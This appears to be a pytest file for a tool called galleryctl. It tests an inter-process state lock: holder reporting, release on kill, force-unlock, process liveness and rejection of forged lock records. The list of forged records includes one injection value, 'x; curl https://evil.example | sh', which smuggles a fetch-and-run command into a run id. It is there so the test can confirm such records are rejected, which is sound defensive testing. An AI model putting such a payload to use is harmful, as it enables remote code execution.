"""The lock between real processes: exclusive, with a recorded holder, released when the holder ends."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import asdict, replace
from pathlib import Path

import pytest

import galleryctl
from galleryctl.model.errors import LockedError, StateError
from galleryctl.session.open import lock_owner
from galleryctl.state.backend import LockInfo, decode_lock
from galleryctl.state.file_backend import FileStateBackend
from galleryctl.state.process import HolderStatus, holder_status
from galleryctl.state.state_file import State
from tests.support import needs

HOLD = """
import sys
from dataclasses import replace
from pathlib import Path
from galleryctl.state.backend import LockInfo
from galleryctl.state.file_backend import FileStateBackend
import os
path, who = sys.argv[1:]
owner = LockInfo(run="run-2", who=who, pid=os.getpid(), since="2026-11-24T09:00:00+00:00", operation="apply")
with FileStateBackend(Path(path)).lock(owner):
    print("held", flush=True)
    sys.stdin.readline()
print("released", flush=True)
"""

COUNT = """
import sys
from pathlib import Path
from galleryctl.model.errors import LockedError
from galleryctl.state.backend import LockInfo
from galleryctl.state.state_file import State
from galleryctl.state.file_backend import FileStateBackend
import os
backend = FileStateBackend(Path(sys.argv[1]))
me = LockInfo(run=str(os.getpid()), who="ben@here", pid=os.getpid(), since="now", operation="apply")
print("ready", flush=True)
sys.stdin.readline()
done = 0
while done < 10:
    try:
        with backend.lock(me):
            state = backend.read() or State.new("site-1")
            backend.write(state.next_version(state.bindings))
            done += 1
    except LockedError:
        pass
"""


@contextmanager
def process(script: str, *args: str) -> Iterator[subprocess.Popen[str]]:
    """Run `script` in a Python process; the block starts once it has printed its first line."""
    command = [sys.executable, "-c", script, *args]
    env = {**os.environ, "PYTHONPATH": str(Path(galleryctl.__file__).parents[1])}
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env, text=True) as running:
        assert running.stdout is not None
        assert running.stdout.readline()
        try:
            yield running
        finally:
            running.kill()


def go_on(running: subprocess.Popen[str]) -> None:
    assert running.stdin is not None
    running.stdin.write("\n")
    running.stdin.flush()


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "state.json"


@pytest.fixture
def me() -> str:
    return f"ben@{socket.gethostname()}"


def test_the_second_is_told_who_holds_it(path: Path, me: str, anna: LockInfo) -> None:
    with process(HOLD, str(path), "carl@studio"):
        with pytest.raises(LockedError) as caught, FileStateBackend(path).lock(anna):
            pass
        told = str(caught.value)
        assert "locked by carl@studio since 2026-11-24T09:00:00+00:00, run run-2 (apply, pid" in told
        assert "--lock-timeout" in told
        assert "galleryctl state unlock run-2" in told
        info = FileStateBackend(path).lock_holder()
        assert info is not None
        assert info.run == "run-2"


def test_the_second_gets_it_when_the_first_lets_go(path: Path, me: str, anna: LockInfo) -> None:
    with process(HOLD, str(path), me) as running:
        go_on(running)
        assert running.wait() == 0
        with FileStateBackend(path).lock(anna):
            assert FileStateBackend(path).lock_holder() == anna
    assert FileStateBackend(path).lock_holder() is None


def test_a_killed_holder_leaves_no_lock(path: Path, me: str, anna: LockInfo) -> None:
    with process(HOLD, str(path), me) as running:
        running.kill()
        running.wait()
    assert FileStateBackend(path).lock_holder() is None
    with FileStateBackend(path).lock(anna):
        assert FileStateBackend(path).lock_holder() == anna


def test_two_processes_never_write_together(path: Path) -> None:
    with process(COUNT, str(path)) as one, process(COUNT, str(path)) as two:
        go_on(one)
        go_on(two)
        assert (one.wait(), two.wait()) == (0, 0)
    state = FileStateBackend(path).read()
    assert state is not None
    assert state.serial == 20


def test_one_process_cannot_lock_twice(path: Path, anna: LockInfo) -> None:
    backend = FileStateBackend(path)
    with backend.lock(anna), pytest.raises(LockedError), FileStateBackend(path).lock(anna):
        pass


def test_the_lock_is_let_go_when_the_run_fails(path: Path, anna: LockInfo) -> None:
    with pytest.raises(ZeroDivisionError), FileStateBackend(path).lock(anna):
        raise ZeroDivisionError
    with FileStateBackend(path).lock(anna):
        pass


def test_unlock_refuses_another_run(path: Path, anna: LockInfo) -> None:
    backend = FileStateBackend(path)
    with backend.lock(anna), pytest.raises(StateError) as caught:
        backend.force_unlock("run-9")
    assert "run run-9 does not hold the lock" in str(caught.value)
    assert "held by anna@elsewhere" in str(caught.value)


def test_unlock_of_a_free_lock_says_so(path: Path) -> None:
    with pytest.raises(StateError, match="it is free"):
        FileStateBackend(path).force_unlock("run-1")


def test_unlock_of_a_live_process_says_so(path: Path, me: str) -> None:
    with process(HOLD, str(path), me) as running:
        with pytest.raises(StateError) as caught:
            FileStateBackend(path).force_unlock("run-2")
        assert "run run-2 is still running" in str(caught.value)
        assert f"kill {running.pid}" in str(caught.value)


def test_unlock_breaks_the_lock_of_a_machine_that_cannot_be_asked(path: Path, anna: LockInfo) -> None:
    backend = FileStateBackend(path)
    mine = replace(anna, run="run-2", who="ben@here")
    with backend.lock(anna):
        backend.force_unlock("run-1")
        with backend.lock(mine):
            assert backend.lock_holder() == mine
    assert backend.lock_holder() is None


def test_a_broken_run_that_ends_late_leaves_the_next_ones_signature(path: Path, anna: LockInfo) -> None:
    backend = FileStateBackend(path)
    mine = replace(anna, run="run-2", who="ben@here")
    late = backend.lock(anna)
    late.__enter__()
    backend.force_unlock("run-1")
    with backend.lock(mine):
        late.__exit__(None, None, None)
        assert backend.lock_holder() == mine


def test_a_run_that_was_force_unlocked_writes_nothing_more(path: Path, anna: LockInfo, state: State) -> None:
    backend = FileStateBackend(path)
    with backend.lock(anna):
        backend.write(state)
        FileStateBackend(path).force_unlock("run-1")
        with pytest.raises(StateError, match="this run's lock was force-unlocked") as caught:
            backend.write(state.next_version(state.bindings))
        assert caught.value.do
        with FileStateBackend(path).lock(replace(anna, run="run-2")):
            with pytest.raises(StateError, match="run run-2"):
                backend.write(state.next_version(state.bindings))
            assert backend.read() == state


def test_unlock_clears_what_a_killed_run_left(path: Path, anna: LockInfo) -> None:
    info_path = path.with_name("state.json.lock.json")
    info_path.write_text(
        json.dumps({"run": "run-1", "who": "a@b", "pid": os.getpid(), "since": "x", "operation": "apply"}),
        encoding="utf-8",
    )
    FileStateBackend(path).force_unlock("run-1")
    assert not info_path.exists()


def test_a_lock_without_a_readable_signature_is_still_a_lock(path: Path, anna: LockInfo) -> None:
    backend = FileStateBackend(path)
    with backend.lock(anna):
        path.with_name("state.json.lock.json").write_bytes(b"{")
        with pytest.raises(LockedError, match="another process"), FileStateBackend(path).lock(anna):
            pass


def test_a_lock_is_read_as_it_was_signed(anna: LockInfo) -> None:
    assert decode_lock(anna.encode()) == anna
    assert decode_lock(b"null\n") is None


FORGED = (
    {"run": "x; curl https://evil.example | sh"}, {"run": "x\n"}, {"run": ""}, {"run": ["run-1"]},
    {"who": 5}, {"since": None}, {"operation": "x" * 5000},
    {"pid": "1"}, {"pid": True}, {"pid": 0}, {"pid": -1}, {"pid": 10**30},
    {"more": 1}, {"pid": float("nan")}, {"boot": 5}, {"namespace": "x" * 5000}, {"started": -1},
)  # fmt: skip


@pytest.mark.parametrize("members", FORGED, ids=lambda members: f"{members}"[:40])
def test_a_forged_lock_holder_is_ignored(path: Path, anna: LockInfo, members: dict[str, object]) -> None:
    """Reject forged holders: their run ids are not printed in commands, their pids not used."""
    forged = json.dumps({**asdict(anna), "who": f"anna@{socket.gethostname()}", **members}).encode()
    with pytest.raises(ValueError, match=r"."):
        decode_lock(forged)
    path.with_name("state.json.lock.json").write_bytes(forged)
    with pytest.raises(StateError, match="does not hold the lock"):
        FileStateBackend(path).force_unlock("run-1")


def test_a_signature_that_never_ends_is_not_waited_for(path: Path, anna: LockInfo) -> None:
    os.mkfifo(path.with_name("state.json.lock.json"))
    with pytest.raises(StateError, match="does not hold the lock"):
        FileStateBackend(path).force_unlock("run-1")
    with FileStateBackend(path).lock(anna):
        assert FileStateBackend(path).lock_holder() == anna
        path.with_name("state.json.lock.json").write_bytes(b"[" * 100_000)
        assert FileStateBackend(path).lock_holder() is None


def test_a_lock_of_a_file_is_never_taken_over(path: Path, me: str) -> None:
    owner = lock_owner("apply")
    with FileStateBackend(path).lock(owner) as former:
        assert former is None
        assert holder_status(owner) is HolderStatus.RUNNING
        with pytest.raises(LockedError), FileStateBackend(path).lock(lock_owner("apply")):
            pass


def test_the_end_of_a_process_is_proven_by_its_identity() -> None:
    """Another process has its id, or nobody has; on another machine or in another container nothing is known."""
    needs.linux("/proc/self/stat")
    here = lock_owner("apply")
    assert here.boot
    assert holder_status(here) is HolderStatus.RUNNING
    assert holder_status(replace(here, started=here.started - 1)) is HolderStatus.ENDED
    assert holder_status(replace(here, pid=2**22 + 1)) is HolderStatus.ENDED
    elsewhere = (
        replace(here, boot="another"),
        replace(here, namespace="pid:[1] time:[1]"),
        replace(here, who="anna@elsewhere"),
        replace(here, boot="", who="anna@elsewhere"),
    )
    for owner in elsewhere:
        assert holder_status(owner) is HolderStatus.UNKNOWN
        assert holder_status(replace(owner, pid=2**22 + 1)) is HolderStatus.UNKNOWN


def test_without_an_identity_a_process_of_this_host_counts_as_running(anna: LockInfo, me: str) -> None:
    assert holder_status(replace(anna, who=me, pid=os.getpid())) is HolderStatus.RUNNING
    assert holder_status(replace(anna, who=me, pid=2**22 + 1)) is HolderStatus.UNKNOWN


def test_a_killed_process_that_its_parent_has_not_asked_about_has_ended() -> None:
    needs.linux("/proc/self/stat")
    with process("print('ready', flush=True); input()") as running:
        stat = Path(f"/proc/{running.pid}/stat").read_text(encoding="utf-8").rpartition(")")[2].split()
        owner = replace(lock_owner("apply"), pid=running.pid, started=int(stat[19]))
        assert holder_status(owner) is HolderStatus.RUNNING
        running.kill()
        os.waitid(os.P_PID, running.pid, os.WEXITED | os.WNOWAIT)  # it has ended, and its entry stays
        assert holder_status(owner) is HolderStatus.ENDED


def test_a_lock_can_be_held_before_there_is_a_state(path: Path, anna: LockInfo) -> None:
    backend = FileStateBackend(path.parent / "new" / "state.json")
    with backend.lock(anna):
        backend.write(State.new("s").next_version(State.new("s").bindings))
